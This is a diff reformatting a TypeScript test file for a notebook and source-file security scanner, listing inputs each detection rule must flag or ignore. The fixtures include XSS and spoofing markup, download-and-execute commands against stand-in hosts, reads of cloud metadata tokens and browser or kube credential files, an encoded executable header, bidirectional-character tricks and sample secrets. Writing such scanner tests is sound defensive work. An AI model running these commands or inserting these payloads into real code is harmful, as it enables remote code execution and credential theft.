@@ -53,11 +53,26 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
       nb({ source: "display(x)", outputs: [htmlOutput("<div>chart</div><script>draw()</script>")] }),
       nb({ source: "x", outputs: [htmlOutput("console.log(1)", "application/javascript")] }),
       nb({ source: "x", outputs: [htmlOutput('<img src=x onerror="steal()">')] }),
-      nb({ source: "x", outputs: [htmlOutput('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml")] }),
+      nb({
+        source: "x",
+        outputs: [
+          htmlOutput('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml"),
+        ],
+      }),
     ],
     ignores: [
-      nb({ source: "df", outputs: [htmlOutput('<div><style scoped>.dataframe td { padding: 2px }</style><table class="dataframe"><tr><td>1</td></tr></table></div>')] }),
-      nb({ source: "plot()", outputs: [htmlOutput('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L1 1"/></svg>', "image/svg+xml")] }),
+      nb({
+        source: "df",
+        outputs: [
+          htmlOutput(
+            '<div><style scoped>.dataframe td { padding: 2px }</style><table class="dataframe"><tr><td>1</td></tr></table></div>',
+          ),
+        ],
+      }),
+      nb({
+        source: "plot()",
+        outputs: [htmlOutput('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L1 1"/></svg>', "image/svg+xml")],
+      }),
     ],
   },
   "markup-injection": {
@@ -65,29 +80,78 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
       { path: "x.ipynb", text: notebookJson(["x"], { title: "T</title><script>alert(1)</script>" }) },
       nb({ source: "x", metadata: { tags: ['t"><img src=x onerror=alert(1)>'] } }),
       nb({ type: "raw", source: "Raw <script>alert(1)</script>" }),
-      nb({ source: "x", outputs: [{ output_type: "display_data", data: { "image/png": '"><script>alert(1)</script>' }, metadata: {} }] }),
-      nb({ source: "x", outputs: [{ output_type: "display_data", data: { "image/png": "iVBORw0KGgo=" }, metadata: { width: "><script>alert(1)</script>" } }] }),
-      nb({ source: "x", outputs: [{ output_type: "display_data", data: { "application/vnd.jupyter.widget-view+json": { model_id: "</script><script>alert(1)//" } }, metadata: {} }] }),
+      nb({
+        source: "x",
+        outputs: [{ output_type: "display_data", data: { "image/png": '"><script>alert(1)</script>' }, metadata: {} }],
+      }),
+      nb({
+        source: "x",
+        outputs: [
+          {
+            output_type: "display_data",
+            data: { "image/png": "iVBORw0KGgo=" },
+            metadata: { width: "><script>alert(1)</script>" },
+          },
+        ],
+      }),
+      nb({
+        source: "x",
+        outputs: [
+          {
+            output_type: "display_data",
+            data: { "application/vnd.jupyter.widget-view+json": { model_id: "</script><script>alert(1)//" } },
+            metadata: {},
+          },
+        ],
+      }),
     ],
     ignores: [
-      { path: "x.ipynb", text: notebookJson(["x"], { title: "Sales <2024> analysis", authors: [{ name: "A <a@example.org>" }] }) },
+      {
+        path: "x.ipynb",
+        text: notebookJson(["x"], { title: "Sales <2024> analysis", authors: [{ name: "A <a@example.org>" }] }),
+      },
       nb({ source: "x", metadata: { tags: ["parameters", "a<b"] } }),
       nb({ type: "raw", source: "<b>bold</b> and <i>raw</i> HTML for nbconvert" }),
-      nb({ source: "x", outputs: [{ output_type: "display_data", data: { "image/png": "iVBORw0KGgo=" }, metadata: { width: 400 } }] }),
+      nb({
+        source: "x",
+        outputs: [{ output_type: "display_data", data: { "image/png": "iVBORw0KGgo=" }, metadata: { width: 400 } }],
+      }),
     ],
   },
   "css-escape": {
     finds: [
-      nb({ type: "markdown", source: '<div style="position:fixed;top:0;left:0;width:100%">Session expired, log in</div>' }),
-      nb({ source: "x", outputs: [htmlOutput('<div style="position: absolute; top: -200px; left: 0">fake toolbar</div>')] }),
+      nb({
+        type: "markdown",
+        source: '<div style="position:fixed;top:0;left:0;width:100%">Session expired, log in</div>',
+      }),
+      nb({
+        source: "x",
+        outputs: [htmlOutput('<div style="position: absolute; top: -200px; left: 0">fake toolbar</div>')],
+      }),
       nb({ type: "markdown", source: '<span style="z-index: 99999; position: relative">x</span>' }),
-      nb({ source: "x", outputs: [htmlOutput("<style>.jp-Notebook-cell .run-button { position: fixed; bottom: 0 }</style>")] }),
-      nb({ type: "markdown", source: "<style>@media screen { .jp-Toolbar { position: absolute; top: 0; left: 0 } }</style>\nhello" }),
+      nb({
+        source: "x",
+        outputs: [htmlOutput("<style>.jp-Notebook-cell .run-button { position: fixed; bottom: 0 }</style>")],
+      }),
+      nb({
+        type: "markdown",
+        source: "<style>@media screen { .jp-Toolbar { position: absolute; top: 0; left: 0 } }</style>\nhello",
+      }),
     ],
     ignores: [
       nb({ type: "markdown", source: '<span style="color: red">warning</span>' }),
-      nb({ source: "x", outputs: [htmlOutput("<style scoped>.dataframe tbody tr th { vertical-align: top; position: relative }</style><table class=dataframe></table>")] }),
-      nb({ source: "x", outputs: [htmlOutput('<div style="position: relative"><div style="position: absolute">in the box</div></div>')] }),
+      nb({
+        source: "x",
+        outputs: [
+          htmlOutput(
+            "<style scoped>.dataframe tbody tr th { vertical-align: top; position: relative }</style><table class=dataframe></table>",
+          ),
+        ],
+      }),
+      nb({
+        source: "x",
+        outputs: [htmlOutput('<div style="position: relative"><div style="position: absolute">in the box</div></div>')],
+      }),
     ],
   },
   "url-verdict": {
@@ -100,7 +164,10 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
       nb({ type: "markdown", source: "[login](https://раураl.com/signin)" }),
     ],
     ignores: [
-      nb({ type: "markdown", source: "See [pandas](https://pandas.pydata.org/docs/), ![plot](images/plot.png) and [below](#Results)." }),
+      nb({
+        type: "markdown",
+        source: "See [pandas](https://pandas.pydata.org/docs/), ![plot](images/plot.png) and [below](#Results).",
+      }),
       nb({ type: "markdown", source: "Data: https://example.org/data.csv and www.example.org" }),
       md("[next notebook](02-cleaning.ipynb)\n"),
     ],
@@ -126,7 +193,13 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
     ],
   },
   "package-install": {
-    finds: [nb("!pip install pandas==2.2"), nb("%pip install -q seaborn"), sh("conda install -y numpy\n"), r('install.packages("ggplot2")\n'), jl('using Pkg\nPkg.add("DataFrames")\n')],
+    finds: [
+      nb("!pip install pandas==2.2"),
+      nb("%pip install -q seaborn"),
+      sh("conda install -y numpy\n"),
+      r('install.packages("ggplot2")\n'),
+      jl('using Pkg\nPkg.add("DataFrames")\n'),
+    ],
     ignores: [py("import pandas as pd\n"), sh("pip list\n"), sh("echo pip install later\n")],
   },
   "download-exec": {
@@ -138,7 +211,9 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
       sh("wget https://x.example/tool -O /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool\n"),
       sh("curl -fsSL https://x.example/install.sh > install.sh\nbash install.sh\n"),
       sh("wget -q https://x.example/agent\n./agent --daemon\n"),
-      py("import urllib.request, subprocess\nurllib.request.urlretrieve('https://x.example/t', 'tool')\nsubprocess.run(['./tool'])\n"),
+      py(
+        "import urllib.request, subprocess\nurllib.request.urlretrieve('https://x.example/t', 'tool')\nsubprocess.run(['./tool'])\n",
+      ),
       nb("%run https://gist.example.com/raw/script.py"),
       py("import requests\nexec(requests.get('https://pastebin.example/raw/abc').text)\n"),
       py("from urllib.request import urlopen\nexec(urlopen('http://x.example/p').read())\n"),
@@ -154,7 +229,9 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
       py("import requests\nr = requests.get(url)\nr = 'print(1)'\nexec(r)\n"),
       sh("chmod +x run.sh\n"),
       sh("curl -o data.csv https://example.org/data.csv\nchmod +x run.sh\n./run.sh data.csv\n"),
-      py("import os, urllib.request\nurllib.request.urlretrieve('https://example.org/d.csv', 'd.csv')\nos.chmod('run.sh', 0o755)\n"),
+      py(
+        "import os, urllib.request\nurllib.request.urlretrieve('https://example.org/d.csv', 'd.csv')\nos.chmod('run.sh', 0o755)\n",
+      ),
       nb("!pip install -r requirements.txt"),
     ],
   },
@@ -185,7 +262,9 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
       py("requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')\n"),
       sh("az account get-access-token --resource https://management.azure.com\n"),
       sh("cat ~/.netrc\n"),
-      py("requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token')\n"),
+      py(
+        "requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token')\n",
+      ),
       py("import glob\nglob.glob(os.path.expanduser('~/.config/google-chrome/Default/Login Data'))\n"),
       r('readLines("~/.kube/config")\n'),
     ],
@@ -223,16 +302,34 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
     ],
     ignores: [
       py("import requests\nr = requests.get('https://api.github.com/repos/pandas-dev/pandas')\n"),
-      { path: "x.ipynb", text: notebookJson([{ type: "markdown", source: "We post results to [our API](https://api.example.org/docs)." }, "requests.post('https://api.example.org/v1/results', json=res)"]) },
+      {
+        path: "x.ipynb",
+        text: notebookJson([
+          { type: "markdown", source: "We post results to [our API](https://api.example.org/docs)." },
+          "requests.post('https://api.example.org/v1/results', json=res)",
+        ]),
+      },
       sh("curl -L -o data.zip https://example.org/data.zip\n"),
     ],
   },
   "encoded-blob": {
-    finds: [py(`payload = "${"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAABQRQAATAEDAA".repeat(2)}"\n`), py(`h = '${"4d5a90000300000004000000ffff0000b8000000".repeat(6)}'\n`)],
-    ignores: [py("s = 'hello world ' * 40\n"), py(`sha = "${"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}"\n`)],
+    finds: [
+      py(
+        `payload = "${"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAABQRQAATAEDAA".repeat(2)}"\n`,
+      ),
+      py(`h = '${"4d5a90000300000004000000ffff0000b8000000".repeat(6)}'\n`),
+    ],
+    ignores: [
+      py("s = 'hello world ' * 40\n"),
+      py(`sha = "${"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}"\n`),
+    ],
   },
   "trojan-source": {
-    finds: [py("access = 'user\u202E \u2066# admin\u2069 \u2066'\n"), py("is\u200Badmin = True\n"), sh("echo ok\u2067\n")],
+    finds: [
+      py("access = 'user\u202E \u2066# admin\u2069 \u2066'\n"),
+      py("is\u200Badmin = True\n"),
+      sh("echo ok\u2067\n"),
+    ],
     ignores: [
       py("# -*- coding: utf-8 -*-\nname = 'café'\nprint('שלום')\n"),
       py("\uFEFFprint(1)\n"),
@@ -249,7 +346,10 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
       nb({ source: "x = 1", metadata: { jupyter: { outputs_hidden: true } } }),
       nb({ source: "x = 1", metadata: { tags: ["remove-input"] } }),
     ],
-    ignores: [nb({ source: "x = 1", metadata: { collapsed: false, scrolled: true, tags: ["parameters"] } }), nb({ type: "markdown", source: "# Notes", metadata: { jupyter: { source_hidden: true } } })],
+    ignores: [
+      nb({ source: "x = 1", metadata: { collapsed: false, scrolled: true, tags: ["parameters"] } }),
+      nb({ type: "markdown", source: "# Notes", metadata: { jupyter: { source_hidden: true } } }),
+    ],
   },
   "hidden-code": {
     finds: [
@@ -260,7 +360,12 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
     ignores: [
       nb({ type: "raw", source: "\\begin{equation} x^2 \\end{equation}" }),
       nb({ type: "raw", source: "Title: Analysis of sales (draft)" }),
-      { path: "x.ipynb", text: notebookJson(["x = 1"], { language_info: { name: "python", version: "3.11.4", mimetype: "text/x-python" } }) },
+      {
+        path: "x.ipynb",
+        text: notebookJson(["x = 1"], {
+          language_info: { name: "python", version: "3.11.4", mimetype: "text/x-python" },
+        }),
+      },
     ],
   },
   secret: {
@@ -268,9 +373,19 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
       py("AWS_ACCESS_KEY_ID = 'AKIAIOSFODNN7EXAMPLE'\n"),
       py("engine = create_engine('postgresql://analyst:S3cr3tPassw0rd@db.internal:5432/sales')\n"),
       py("token = 'ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8" + "'\n"),
-      py("key = '''-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM2Ez5iBhXfX7\n-----END RSA PRIVATE KEY-----'''\n"),
-      nb({ source: "print(cfg)", outputs: [{ output_type: "stream", name: "stdout", text: "slack: xoxb-" + "123456789012-abcdefghijkl\n" }] }),
-      md("conn = DefaultEndpointsProtocol=https;AccountName=x;AccountKey=" + "a".repeat(20) + "B".repeat(20) + "c9+/==;\n"),
+      py(
+        "key = '''-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM2Ez5iBhXfX7\n-----END RSA PRIVATE KEY-----'''\n",
+      ),
+      nb({
+        source: "print(cfg)",
+        outputs: [{ output_type: "stream", name: "stdout", text: "slack: xoxb-" + "123456789012-abcdefghijkl\n" }],
+      }),
+      md(
+        "conn = DefaultEndpointsProtocol=https;AccountName=x;AccountKey=" +
+          "a".repeat(20) +
+          "B".repeat(20) +
+          "c9+/==;\n",
+      ),
     ],
     ignores: [
       py("engine = create_engine('postgresql://user:<password>@localhost/db')\n"),
@@ -281,7 +396,9 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
 };
 
 function rulesFound(example: Example): Set<string> {
-  return new Set(scanFile({ path: example.path, bytes: Buffer.from(example.text) }).findings.map((finding) => finding.rule));
+  return new Set(
+    scanFile({ path: example.path, bytes: Buffer.from(example.text) }).findings.map((finding) => finding.rule),
+  );
 }
 
 test("every rule has examples it must find and must not find", () => {
